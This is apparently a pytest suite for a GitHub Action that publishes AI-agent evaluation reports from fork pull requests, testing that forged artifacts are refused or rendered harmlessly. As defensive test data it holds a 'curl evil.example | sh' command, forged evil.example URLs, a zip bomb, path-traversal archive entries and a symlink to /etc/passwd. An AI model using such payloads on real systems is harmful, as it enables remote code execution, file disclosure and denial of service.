"""The fork flow: a run that may only read, and another that publishes what it has reported."""

import io
import json
import signal
import zipfile

import pytest

from agentevals.model.review import SCHEMA_VERSION
from agentevals.report.outputs import review as exported
from tests.action.job import FORK, REPOSITORY, Job, agent
from tests.action.leaks import ALL, CANARIES, MASK, find_leaks, slipped
from tests.hostile import strings
from tests.processes import PATIENCE, ending_with_us
from tests.report.pages.harmless import COMMAND, OBEYED, complaints
from tests.report.pages.hostile_reviews import hostile
from tests.stand_in.faults import Fault
from tests.stand_in.world import Run
from tests.support import DATA

RUN = 30433642
READ_ONLY = dict.fromkeys(("pull-requests", "issues", "checks", "statuses"), "read")


@pytest.fixture
def first(job):
    """The run of the fork, whose token may only read."""
    job.pull_request(agent(), agent(failing=["paris"]), recorded="pull_request_fork")
    job.github.permissions |= READ_ONLY
    return job.keeping_artifacts()


@pytest.fixture
def second(first, tmp_path):
    """The workflow that follows it, in the base's repository: nothing is checked out."""
    job = Job(tmp_path / "second", first.github).given(command="publish")
    job.head, job.base, job.pull = first.head, first.base, first.pull
    job.on("workflow_run_fork", job.head)
    job.environ |= {"GITHUB_SHA": job.base, "GITHUB_RUN_ID": "30433999"}
    run = Run(RUN, event="pull_request", branch="units", sha=job.head, head_repository=FORK)
    job.place.runs[RUN] = run
    job.run_of_fork = run
    return job


def handed_over(job, **changed):
    """What the first run has kept is there for the second, changed or as it is."""
    job.github.permissions.clear()
    kept = [changed] if changed else []
    for name, upload in job.world.uploads.items():
        content = upload.content
        for change in kept:
            content = packed(**{"report.json": json.dumps(edited(content, change))})
        job.world.artifact(job.run_of_fork, name, content)
    return job


def edited(content, changes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        document = json.loads(archive.read("report.json"))
    for path, value in changes.items():
        *places, last = path.split("__")
        part = document
        for place in places:
            part = part[int(place)] if place.isdigit() else part[place]
        part[last] = value
    return document


def packed(**files):
    """An artifact, as anybody could have made it."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return data.getvalue()


def forged(job, content, name="agentevals-agentevals-evals"):
    job.github.permissions.clear()
    job.world.artifact(job.run_of_fork, name, content)
    return job


# ---- the first run


def test_the_run_of_a_fork_keeps_its_report_and_says_who_can_publish_it(first):
    done = first.run()

    assert (done.code, done.outputs["verdict"]) == (1, "failed")
    assert list(first.world.uploads) == ["agentevals-agentevals-evals"]
    (notice,) = done.said("notice")
    assert notice.startswith("comment and check: not written")
    assert "'command: publish'" in notice


def test_without_the_service_for_artifacts_the_report_is_still_in_the_workspace(first):
    del first.environ["ACTIONS_RUNTIME_TOKEN"]

    done = first.run()

    assert done.code == 1
    assert (done.folder / "report.json").is_file()


# ---- the second run


@pytest.mark.parametrize(
    "changed",
    [
        {"sections": [], "verdict": "pass", "exit_code": 0},
        {"sections": [], "verdict": "pass", "exit_code": 0, "state": "unchanged"},
        {
            "sections__0__counts": {"cases": 4, "passed": 4, "unscored": 4},
            "sections__0__verdict": "pass",
            "sections__0__exit_code": 0,
            "verdict": "pass",
            "exit_code": 0,
        },
    ],
)
def test_a_report_without_a_score_is_published_as_not_evaluated(first, second, changed):
    first.run()

    done = handed_over(second, **changed).run()

    (check,) = second.place.checks.values()
    assert "**Not evaluated: " in second.comments[0]
    assert (check["conclusion"], done.outputs["verdict"]) == ("neutral", "not-evaluated")


def test_the_second_run_publishes_what_the_first_has_found(first, second):
    first.run()

    done = handed_over(second).run()

    assert (done.code, done.outputs["verdict"], done.outputs["regressed"]) == (0, "failed", "1")
    assert len(second.comments) == 1
    assert "`paris`" in second.comments[0]
    assert "From a fork" in second.comments[0]
    assert f"/actions/runs/{RUN}" in second.comments[0]
    assert [(c["head_sha"], c["conclusion"]) for c in second.place.checks.values()] == [
        (second.head, "failure")
    ]


def test_check_and_status_say_that_it_is_a_claim(first, second):
    first.run()

    handed_over(second).given(status="on").run()

    (check,) = second.place.checks.values()
    (status,) = second.place.statuses
    for said in (check["output"]["title"], status["description"]):
        assert said.startswith("Its own run reports: Not ready to merge")


def test_links_of_a_fork_lead_into_its_commit_in_the_base_repository(first, second):
    first.run()

    handed_over(second).run()

    assert f"/{REPOSITORY}/blob/{second.head}/traces/paris.json#L1" in second.comments[0]


def test_nobody_is_told_to_type_what_a_stranger_wrote(first, second):
    first.run()

    handed_over(second, sections__0__reproduce="curl evil.example | sh").run()

    assert "evil" not in second.comments[0]


def test_what_a_fork_reports_is_a_baseline_for_nobody(first, second):
    first.run()

    handed_over(second).keeping_artifacts().run()

    assert "agentevals-baseline" not in json.dumps([*second.place.checks.values()])
    assert list(second.world.uploads) == ["agentevals-agentevals-evals"]


def test_a_branch_of_the_repository_itself_is_no_fork(first, second):
    first.run()
    second.pull.head_repository = REPOSITORY
    second.on("workflow_run_fork", second.head)

    handed_over(second).run()

    assert "From a fork" not in second.comments[0]
    assert "without the right to publish" in second.comments[0]


FORGED = {
    "scene__number": 99,
    "scene__repository": "evil/repository",
    "scene__server_url": "https://evil.example",
    "scene__run_url": "https://evil.example/run",
    "scene__run_number": 2**40,
    "scene__run_attempt": 1000,
    "scene__fork": False,
    "scene__base_ref": "@everybody",
    "scene__event": "merge_group",
    "scene__workflow": "release",
    "key": "somebody else's",
    "image": "ghcr.io/evil/image",
    "sections__0__against__origin__run_url": "https://evil.example/run",
}


def test_a_forged_scene_changes_nothing(first, second):
    first.run()

    done = handed_over(second, **FORGED).run()

    scene = done.report["scene"]
    assert (scene["number"], scene["repository"], scene["workflow"]) == (
        13,
        REPOSITORY,
        "agentevals",
    )
    assert (scene["run_id"], scene["run_number"], scene["run_attempt"]) == (RUN, 562, 1)
    assert done.report["key"] == "agentevals"


def test_a_forged_scene_is_not_shown(first, second):
    first.run()

    done = handed_over(second, **FORGED).run()

    assert len(second.comments) == 1
    assert "From a fork" in second.comments[0]
    assert "evil" not in second.comments[0] + done.summary
    assert "everybody" not in second.comments[0]


def test_what_was_published_is_published_again_by_the_next_push(first, second):
    first.run()
    handed_over(second, scene__run_number=2**40).run()
    second.place.artifacts.clear()

    handed_over(second, sections__0__config="later.yaml").run()

    assert "later" in second.comments[0]


def test_a_report_about_another_commit_is_not_published(first, second):
    first.run()

    done = handed_over(second, scene__head_sha="f" * 40).run()

    assert done.code == 3
    assert "not about that of its run" in done.said("warning")[0]
    assert second.comments == []


@pytest.mark.parametrize("changed", [{"scene__run_id": 7}, {"scene__secondhand": True}], ids=str)
def test_a_report_of_another_run_is_not_published(first, second, changed):
    """A fork may commit one into the folder that its run keeps."""
    first.run()

    done = handed_over(second, **changed).run()

    assert done.code == 3
    assert "it was made by run" in done.said("warning")[0]
    assert (second.comments, second.place.checks) == ([], {})


def test_recordings_of_a_fork_are_a_claim(first, second):
    first.run()

    handed_over(second, sections__0__arrivals={"traces/paris.json": "this-run"}).run()

    assert "traces, as that run claims: 1 recorded by the run" in second.comments[0]


GREEN = {
    "sections__0__verdict": "pass",
    "sections__0__exit_code": 0,
    "sections__0__counts": {"cases": 4, "passed": 4},
    "sections__0__highlights": [],
    "sections__0__gates": [],
    "verdict": "pass",
    "exit_code": 0,
}


def asked_for(first, folder):
    """Somebody who may push comments `/eval`: the base judges the head, with a token that writes.

    Its workflow is a younger one.
    """
    job = Job(folder / "asked_for", first.github)
    job.base, job.head, job.pull = first.base, first.head, first.pull
    recorded = json.loads((DATA / "events/issue_comment.json").read_text())
    job.on("issue_comment", issue=recorded["issue"] | {"number": job.pull.number})
    job.environ |= {"GITHUB_SHA": job.base, "GITHUB_RUN_NUMBER": "7"}
    return job


def test_a_claim_does_not_take_the_place_of_our_own_verdict(first, second, tmp_path):
    """Somebody who may push had the head evaluated before the run of the fork ended."""
    first.run()
    handed_over(second, **GREEN).given(status="on")
    trusted = asked_for(first, tmp_path).given(status="on").run()
    before = second.comments
    done = second.run()

    assert (trusted.code, done.code) == (1, 0), trusted.log
    assert [check["conclusion"] for check in second.place.checks.values()] == ["failure"]
    notices = [text for text in done.said("notice") if "your own run has evaluated" in text]
    assert [text.partition(":")[0] for text in notices] == ["check", "status"]
    assert [status["state"] for status in second.place.statuses] == ["pending", "failure"]
    assert "Not ready to merge" in before[0]
    assert second.comments == before


def test_our_own_verdict_takes_the_place_of_a_claim(first, second, tmp_path):
    first.run()
    handed_over(second, **GREEN).run()
    before = second.comments
    asked_for(first, tmp_path).run()
    checks = [check["conclusion"] for check in second.place.checks.values()]

    assert "Ready to merge" in before[0]
    assert (len(second.comments), checks) == (1, ["success", "failure"])
    assert "Not ready to merge" in second.comments[0]


@pytest.mark.parametrize("number", range(0, 100, 40))
def test_hostile_text_is_text(first, second, number):
    texts = [text for at, text in zip(range(20_000), strings(), strict=False) if at % 100 == number]
    review = hostile(texts)
    document = json.loads("".join(exported.render(review)))
    document["scene"] |= {"head_sha": second.head, "run_id": RUN, "secondhand": False}
    document["schema_version"] = SCHEMA_VERSION
    keep_inside(document)
    first.github.permissions.clear()

    done = forged(second, packed(**{"report.json": json.dumps(document)})).run()

    assert done.code == 0, done.log
    page = second.comments[0]
    allowed = {f"link: [('href', '{link}')]" for link in ours(page, second)}
    assert set(complaints(page)) - allowed == set()
    assert not OBEYED.search(page)
    assert not [text for text in done.log.splitlines() if COMMAND.match(text)][10:]


def keep_inside(value):
    """Places that are in no repository are refused, which is tested where reports are read."""
    if isinstance(value, dict):
        if value.get("line") is not None:
            value["line"] = max(1, value["line"])
        if value.keys() == {"path", "line"}:
            value["path"] = "x" + value["path"].replace("\\", "").replace("..", "")
        value = list(value.values())
    for item in value if isinstance(value, list) else ():
        keep_inside(item)


def ours(page, job):
    """The links that we make ourselves, all of which lead into the repository."""
    start = f"{job.github.root}/{REPOSITORY}/"
    return {text.partition(")")[0] for text in page.split("](")[1:] if text.startswith(start)}


# ---- what is no report


def bomb():
    return packed(**{"report.json": b"[" * 300_000_000})


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"not a zip file", "cannot be unpacked"),
        (packed(**{"other.json": "{}"}), "there is no report.json in it"),
        (packed(**{"report.json": "{"}), "not valid JSON"),
        (packed(**{"report.json": "{}"}), "schema version"),
        (packed(**{"report.json": '{"schema_version": "9.0"}'}), "schema version '9.0'"),
        (packed(**{"report.json": '{"schema_version": "1.0", "x": 1}'}), "missing required field"),
        (packed(**{"../../report.json": "{}"}), "leads out of its folder"),
        (packed(**{"/report.json": "{}"}), "leads out of its folder"),
        (packed(**{f"{at}.json": "{}" for at in range(3_000)}), "entries"),
        (packed(**{"report.json": "[" * 100_000}), "nested deeper"),
    ],
    ids=[
        "no zip",
        "no report",
        "cut",
        "no schema",
        "schema",
        "shape",
        "slip",
        "root",
        "many",
        "deep",
    ],
)
def test_what_is_no_report_is_a_sentence_and_nothing_is_published(second, content, sentence):
    done = forged(second, content).run()

    assert done.code == 3
    assert sentence in done.said("warning")[0]
    assert "Traceback" not in done.log
    assert (second.comments, second.place.checks) == ([], {})
    assert not (second.folder / "report.json").exists()


def test_a_bomb_is_not_unpacked(second):
    done = forged(second, bomb()).run()

    assert done.code == 3
    assert "more than it may" in done.said("warning")[0]


def test_links_in_an_artifact_are_left_out(second):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        link = zipfile.ZipInfo("report.json")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")

    done = forged(second, data.getvalue()).run()

    assert done.code == 3
    assert "there is no report.json" in done.said("warning")[0]


def test_a_run_that_has_left_nothing_is_said(second):
    second.github.permissions.clear()

    done = second.run()

    assert done.code == 3
    assert "that run has no report" in done.said("error")[0]


def test_a_report_that_has_expired_is_said(first, second):
    first.run()
    handed_over(second)
    for artifact in second.place.artifacts.values():
        artifact.expired = True

    done = second.run()

    assert done.code == 3
    assert "has expired" in done.said("warning")[0]


def test_a_report_that_expires_between_the_list_and_the_download_is_said(first, second):
    first.run()
    handed_over(second).github.faults.append(Fault("GET", "/zip$", status=410, times=9))

    done = second.run()

    assert done.code == 3
    assert "has expired" in done.said("warning")[0]


def test_artifacts_of_other_actions_and_other_runs_are_left_alone(first, second):
    first.run()
    handed_over(second)
    other = Run(7, event="pull_request", branch="units", sha="c" * 40, head_repository=FORK)
    second.place.runs[7] = other
    second.world.artifact(other, "agentevals-other", b"of another run")
    second.world.artifact(second.run_of_fork, "coverage", b"of another action")

    done = second.run()

    assert (done.code, done.said("warning")) == (0, [])
    assert len(second.comments) == 1


def test_each_leg_of_a_matrix_is_published(first, second):
    for leg in ("3.12", "3.13"):
        first.given(matrix=json.dumps({"python": leg})).run()

    done = handed_over(second).run()

    assert len(second.comments) == 1
    assert [leg in second.comments[0] for leg in ("3.12", "3.13")] == [True, True]
    assert [check["name"] for check in second.place.checks.values()] == [
        "agentevals / 3.12",
        "agentevals / 3.13",
    ]
    assert sorted(path.name for path in done.folder.iterdir()) == ["evals-3-12", "evals-3-13"]
    assert done.outputs["regressed"] == "2"


def test_each_job_of_a_workflow_is_published(first, second):
    for name in ("support", "billing"):
        first.environ["GITHUB_JOB"] = name
        first.run()

    done = handed_over(second).run()

    assert len(second.comments) == 1
    assert sorted(path.name for path in done.folder.iterdir()) == ["billing", "support"]
    assert done.outputs["regressed"] == "2"


def test_the_folder_of_several_reports_is_named_from_the_root_of_the_workspace(first, second):
    for name in ("support", "billing"):
        first.environ["GITHUB_JOB"] = name
        first.run()
    (second.workspace / "here").mkdir()

    done = handed_over(second).given(working_directory="here").run()

    assert done.outputs["report"] == "here/agentevals-report"
    assert (done.folder / "support" / "report.json").is_file()


def test_one_broken_report_does_not_hide_the_others(first, second):
    first.run()
    handed_over(second)
    second.world.artifact(second.run_of_fork, "agentevals-broken", b"nothing")

    done = second.run()

    assert (done.code, len(second.comments)) == (0, 1)
    assert "'agentevals-broken' is not published" in done.said("warning")[0]


def test_many_large_reports_are_not_all_held_in_memory(first, second):
    """Spaces cost nothing to send; what they stand for are cases."""
    done = first.run()
    for name in "abc":
        content = packed(**{"report.json": done.text + " " * 50 * 2**20})
        forged(second, content, f"agentevals-{name}")
    done = second.run()

    assert done.code == 0
    assert ["'agentevals-c' is not published" in text for text in done.said("warning")] == [True]
    assert "more than 134,217,728 bytes" in done.said("warning")[0]


def test_of_several_attempts_the_last_is_published(first, second):
    first.run()
    first.environ["GITHUB_RUN_ATTEMPT"] = "10"
    first.run()
    first.environ["GITHUB_RUN_ATTEMPT"] = "9"
    content = {name: upload.content for name, upload in first.world.uploads.items()}
    older, newer = (
        content["agentevals-agentevals-evals"],
        content["agentevals-agentevals-evals-attempt-10"],
    )
    for name, text in (("", older), ("-attempt-9", older), ("-attempt-10", newer)):
        changed = edited(text, {"sections__0__config": f"config{name}.yaml"})
        forged(
            second,
            packed(**{"report.json": json.dumps(changed)}),
            f"agentevals-agentevals-evals{name}",
        )

    second.run()

    assert [name for name in ("10", "9") if f"attempt-{name}.yaml" in second.comments[0]] == ["10"]


# ---- about which pull request


@pytest.mark.parametrize("state", ["pushed", "closed", "gone"])
def test_what_is_outdated_is_not_published(first, second, state):
    first.run()
    handed_over(second)
    if state == "pushed":
        second.pull.head_sha = "9" * 40
    elif state == "closed":
        second.pull.state = "closed"
    else:
        second.place.pulls.clear()

    done = second.run()

    assert done.code == 0
    assert "nothing is published" in done.said("notice")[0]
    assert (second.comments, second.place.checks) == ([], {})


def test_of_two_pull_requests_with_one_head_none_is_guessed(first, second):
    first.run()
    second.world.pull(14, REPOSITORY, head_sha=second.head, head_ref="units", head_repository=FORK)

    done = handed_over(second).run()

    assert done.code == 0
    assert "nothing is published" in done.said("notice")[0]


def test_dependabots_own_branch_is_published_as_well(job, tmp_path):
    job.pull_request(agent(), agent(failing=["paris"]), recorded="pull_request_dependabot")
    job.github.permissions |= READ_ONLY
    job.keeping_artifacts().run()
    other = Job(tmp_path / "second", job.github).given(command="publish")
    other.head, other.pull = job.head, job.pull
    other.on("workflow_run", job.head, job.base)
    other.place.runs[RUN] = other.run_of_fork = Run(RUN, event="pull_request", sha=job.head)
    job.world.pull(12, REPOSITORY, head_sha=job.head, base_sha=job.base, head_ref="units")
    other.pull = job.place.pulls[12]

    done = handed_over(other).run()

    assert (done.code, len(other.comments)) == (0, 1)


@pytest.mark.parametrize("recorded", ["workflow_run", "workflow_run_fork"])
def test_where_github_does_not_say_which_pull_request_it_is_none_is_guessed(
    first, second, recorded
):
    first.run()
    second.on(recorded, second.head, second.base)
    handed_over(second).github.faults.append(Fault("GET", "/pulls", status=502, times=99))

    done = second.run()

    assert done.code == 3
    assert (second.comments, second.place.checks) == ([], {})


@pytest.mark.parametrize("recorded", ["pull_request", "push", "schedule", "issue_comment"])
def test_other_events_have_nothing_to_publish(job, recorded):
    job.pull_request(agent(), agent(), recorded=recorded).given(command="publish")

    done = job.run()

    assert done.code == 2
    assert "'command: publish' is for workflows on 'workflow_run'" in done.said("error")[0]
    assert done.outputs["verdict"] == "error"


def test_without_a_token_nothing_can_be_fetched_and_that_is_said(second):
    done = second.given(github_token="").run()

    assert done.code == 2
    assert "no token" in done.log


def test_without_the_right_to_read_runs_the_line_to_add_is_said(first, second):
    first.run()
    handed_over(second).github.permissions["actions"] = "none"

    done = second.run()

    assert done.code == 3
    assert "actions: read" in done.log


def test_who_cancels_it_leaves_no_check_run_that_runs(first, second):
    first.run()
    handed_over(second)
    with ending_with_us(second.started()) as process:
        cancel = Fault(
            "POST", "/check-runs", meanwhile=lambda _: process.send_signal(signal.SIGINT)
        )
        second.github.faults.append(cancel)
        assert process.wait(PATIENCE) == 130

    assert [check["conclusion"] for check in second.place.checks.values()] == ["failure"]


def test_what_its_own_step_holds_is_hidden_in_the_report_of_a_fork(first, second):
    first.pull_request(slipped(), slipped(ALL), recorded="pull_request_fork").run()
    second.head, second.base, second.pull = first.head, first.base, first.pull
    second.on("workflow_run_fork", second.head).run_of_fork.sha = second.head
    first.github.exchanges.clear()
    handed_over(second)
    second.world.uploads.clear()
    second.environ |= CANARIES
    done = second.given(mask=MASK).run()

    assert done.outputs["regressed"] == "1"
    assert find_leaks(second, done) == {}
